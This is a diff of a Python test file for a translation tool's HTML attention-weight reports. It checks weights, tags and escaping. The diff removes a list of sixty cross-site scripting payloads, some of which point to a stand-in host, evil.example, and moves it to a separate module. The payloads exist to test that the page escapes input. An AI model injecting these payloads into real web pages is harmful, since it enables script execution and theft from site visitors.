@@ -1,15 +1,11 @@
 """The report and its cards: right words and weights in real tables, everything escaped, nothing fetched.
 
-More than 400 lines because sixty payloads take a line each.
+More than 400 lines because it is one page, from its cards to its command.
 """
 
 import base64
 import hashlib
-import json
 import re
-import shutil
-import subprocess
-from html.parser import HTMLParser
 from pathlib import Path
 
 import numpy as np
@@ -27,112 +23,19 @@ from dhyan.svg import label
 from dhyan.training import train
 from dhyan.translator import SOURCE_END, Translation, Translator, load
 from dhyan.vocab import Vocabulary
+from document import Document
+from payloads import PAYLOADS
 
 SOURCE = ["मैं", "खाना", "खा", "रहा", "हूँ", SOURCE_END]
 TARGET = ["I", "am", "eating"]
 WEIGHTS = np.array([[0.9, 0.1, 0, 0, 0, 0], [0, 0, 0, 0.25, 0.75, 0], [0.05, 0.45, 0.5, 0, 0, 0]])
-VOID = {"meta", "input"}
 TAGS = {
     "html", "head", "meta", "title", "style", "script", "body", "main", "h1", "h2", "h3", "p", "section", "article",
-    "header", "ul", "li", "nav", "a", "dl", "dt", "dd", "div", "button", "label", "input", "output", "ol", "span",
+    "header", "ul", "li", "nav", "a", "dl", "dt", "dd", "div", "button", "label", "input", "ol", "span",
     "svg", "path", "line", "polyline", "circle", "text", "table", "caption", "thead", "tbody", "tfoot", "tr", "th",
     "td",
     "figure", "figcaption", "details", "summary",
 }  # fmt: skip
-# Sixty ways to make a page run what a text says.
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "<ScRiPt>alert(1)</sCrIpT>",
-    "<script src=//evil.example/x.js></script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='x' onerror='alert(1)'/>",
-    '"><img src=x onerror=alert(1)>',
-    "'><img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<math><mi xlink:href=javascript:alert(1)>",
-    "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<link rel=stylesheet href=//evil.example>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<form action=//evil.example>",
-    "<input autofocus onfocus=alert(1)>",
-    "<select autofocus onfocus=alert(1)>",
-    "<textarea autofocus onfocus=alert(1)>",
-    "<keygen autofocus onfocus=alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<video src=x onerror=alert(1)>",
-    "<audio src=x onerror=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<button formaction=javascript:alert(1)>",
-    "<div style=background:url(javascript:alert(1))>",
-    "<style>@import '//evil.example';</style>",
-    "</style><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "<!--<img src='--><img src=x onerror=alert(1)>'>",
-    "--><script>alert(1)</script>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "]]><script>alert(1)</script>",
-    "<?xml-stylesheet href=javascript:alert(1)?>",
-    "<!DOCTYPE html><script>alert(1)</script>",
-    '" onmouseover="alert(1)',
-    "' onmouseover='alert(1)",
-    '" autofocus onfocus="alert(1)',
-    "` onmouseover=alert(1) `",
-    'x" style="position:fixed',
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
-    "\\u003cscript\\u003ealert(1)",
-    "<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "<\u202escript>alert(1)</script>",
-    "＜script＞alert(1)＜/script＞",
-    "javascript:alert(1)",
-    "${alert(1)}{{alert(1)}}",
-]
-
-
-class Document(HTMLParser):
-    """Tags opened, their attributes, and the text between them; fails where tags do not nest."""
-
-    def __init__(self, text):
-        super().__init__(convert_charrefs=True)
-        self.tags, self.texts, self.open = [], [], []
-        self.feed(text)
-        self.close()
-        assert self.open == []
-
-    def handle_starttag(self, tag, attrs):
-        self.tags.append((tag, dict(attrs)))
-        if tag not in VOID and not (self.get_starttag_text() or "").endswith("/>"):
-            self.open.append(tag)
-
-    def handle_startendtag(self, tag, attrs):
-        self.tags.append((tag, dict(attrs)))
-
-    def handle_endtag(self, tag):
-        assert self.open.pop() == tag
-
-    def handle_data(self, data):
-        self.texts.append((self.open[-1] if self.open else "", data))
-
-    def words(self, tag):
-        return [text for where, text in self.texts if where == tag]
-
-    def all(self, tag):
-        return [attributes for name, attributes in self.tags if name == tag]
 
 
 def check_safe(text):
@@ -179,7 +82,7 @@ def test_weights_in_words():
     assert [card.weight_text(w) for w in (0, 0.004, 0.006, 0.5, 0.994, 0.996, 1)] == [
         "0", "0", ".01", ".50", ".99", "1.0", "1.0",
     ]  # fmt: skip
-    assert [card.level(w) for w in (-1, 0, 0.04, 0.06, 0.5, 1, 2)] == [0, 0, 0, 1, 5, 10, 10]
+    assert [card.level(w) for w in (-1, 0, 0.04, 0.05, 0.45, 0.5, 1, 2)] == [0, 0, 0, 1, 5, 5, 10, 10]
 
 
 def test_devanagari_words_stay_whole_and_have_a_language():
@@ -205,7 +108,7 @@ def test_a_large_matrix_is_a_drawing_and_its_largest_weights():
     assert len(text) < 150_000 and len(document.all("tr")) == 200
     assert len(document.all("td")) <= 200 * card.LARGEST
     drawn = sum(a["d"].count("M") for a in document.all("path"))
-    assert drawn == (np.rint(10 * weights.round(3)) >= 1).sum()
+    assert drawn == (weights.round(3) >= 0.05).sum()
     best = int(weights[0].argmax())
     assert document.words("td")[0] == f"s{best} {card.weight_text(weights[0, best].round(3))}"
 
@@ -285,10 +188,6 @@ def check_no_more_tags(text, plain):
     assert [tag for tag, _ in Document(text).tags] == [tag for tag, _ in Document(plain).tags]
 
 
-def test_there_are_sixty_payloads():
-    assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
-
-
 # ---------------------------------------------------------------- charts
 
 
@@ -314,6 +213,20 @@ def test_a_chart_leaves_out_what_is_not_a_number():
 
 
 # ---------------------------------------------------------------- evidence
+
+
+@pytest.mark.parametrize(
+    ("value", "top"), [(-1, 1), (0, 1), (0.4, 0.4), (0.41, 0.6), (1.05, 1.2), (1.3, 1.6), (9, 10), (10, 10), (61, 80)]
+)
+def test_an_axis_ends_at_a_round_number(value, top):
+    assert chart._round_up(value) == pytest.approx(top, rel=1e-15)
+    assert all(len(f"{top * k / 4:.3g}") <= 4 for k in range(5))
+
+
+@pytest.mark.parametrize(("pairs", "ranges"), [(20, 2), (39, 3), (40, 4), (120, 4), (399, 4), (400, 4), (2000, 8)])
+def test_ranges_of_length_fit_the_test(pairs, ranges):
+    test = evidence.Sentences("t", [Pair("a " * (1 + i * 64 // pairs), "x") for i in range(pairs)])
+    assert len(test.edges) == ranges
 
 
 def test_what_is_said_of_an_output():
@@ -468,7 +381,7 @@ def test_a_page_of_payloads(tmp_path):
     ]
     failures = dict.fromkeys(FAILURES, 1)
     result = {"pairs": 60, "bleu": 1.0, "chrf": 1.0, "ter": 1.0, "signature": "<b>", "exact_match": 0.0,
-              "token_error_rate": 1.0, "aer": None, "failures": failures,
+              "token_error_rate": 1.0, "perplexity": 1.0, "aer": None, "failures": failures,
               "by_length": [{"from": 1, "to": 9, "pairs": 60, "bleu": 1.0}]}  # fmt: skip
     log = [{"epoch": "</script><script>alert(1)", "train_loss": "<i>", "valid_loss": 1.0}]
     run = evidence.Run(str(path), translator, found, outputs, result, log)
@@ -532,50 +445,3 @@ def test_the_choices_of_the_command_are_those_of_the_report():
     from dhyan.cli.parser import CHOICES
 
     assert CHOICES == evidence.CHOICES
-
-
-# ---------------------------------------------------------------- the script, in a browser
-
-BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
-PROBE = """<script>
-const card = document.querySelector(".dhyan-card"), slider = card.querySelector("input");
-slider.value = 2;
-slider.dispatchEvent(new Event("input"));
-const seen = {
-  hidden: card.querySelector(".player").hidden,
-  current: card.querySelector(".outputs .current").textContent,
-  later: [...card.querySelectorAll(".outputs .later")].map((b) => b.textContent),
-  weights: [...card.querySelectorAll(".sources .now")].map((n) => n.textContent),
-  shades: [...card.querySelectorAll(".sources li")].map((n) => n.className),
-  told: slider.getAttribute("aria-valuetext"),
-  path: card.querySelector(".path").textContent,
-};
-card.querySelector(".sources li").dispatchEvent(new PointerEvent("pointerover", { bubbles: true }));
-seen.lit = [...card.querySelectorAll(".outputs button")].map((b) => b.className.match(/w\\d+/)[0]);
-document.title = JSON.stringify(seen);
-</script>"""
-
-
-@pytest.mark.skipif(BROWSER is None, reason="needs a Chromium")
-def test_the_slider_in_a_browser(tmp_path):
-    """The page is opened once with its policy, which must not stop its own script, and once with a probe instead."""
-    text = translation().to_html()
-    (tmp_path / "page.html").write_text(text, encoding="utf-8")
-    assert '<div class="player">' in dump(tmp_path, "page.html")
-    probed = re.sub(r"<meta http-equiv=[^>]*>", "", text).replace("</body>", PROBE + "</body>")
-    (tmp_path / "probe.html").write_text(probed, encoding="utf-8")
-    title = Document(dump(tmp_path, "probe.html")).words("title")[0]
-    assert json.loads(title) == {
-        "hidden": False, "current": "am", "later": ["eating"], "weights": ["0", "0", "0", ".25", ".75", "0"],
-        "shades": ["w0", "w0", "w0", "w3", "w8", "w0"], "told": "step 2 of 3: am reads हूँ 75\u00a0%, रहा 25\u00a0%",
-        "path": "Most focus so far: मैं → हूँ", "lit": ["w9", "w0", "w1"],
-    }  # fmt: skip
-
-
-def dump(folder, name):
-    done = subprocess.run(
-        [BROWSER, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={folder / 'profile'}", "--dump-dom",
-         (folder / name).as_uri()],
-        capture_output=True, timeout=120, check=True,
-    )  # fmt: skip
-    return done.stdout.decode()
